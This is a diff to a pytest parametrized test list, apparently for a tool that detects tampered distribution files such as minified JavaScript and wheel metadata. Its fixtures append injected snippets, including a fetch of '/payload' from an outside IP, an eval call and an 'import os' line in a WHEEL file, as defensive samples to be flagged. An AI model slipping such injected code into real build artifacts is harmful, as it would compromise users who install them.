@@ -57,6 +57,8 @@ def test_usual_files(path, text, source):
     ("path", "text", "source"),
     [
         ("dist/a.min.js", MINIFIED + "fetch('http://203.0.113.9/payload')", {"src/a.js": SCRIPT}),
+        ("dist/a.min.js", MINIFIED + "add('203.0.113.9')", {"src/a.js": SCRIPT}),
+        ("dist/a.min.js", MINIFIED + "eval(e.total)", {"src/a.js": SCRIPT}),
         ("a-1.dist-info/WHEEL", "Wheel-Version: 1.0\nimport os\n", {}),
         ("a-1.dist-info/METADATA", "Metadata-Version: 2.1\nName: counts\n\nsomething wholly else\n", {"R": "counts"}),
         (
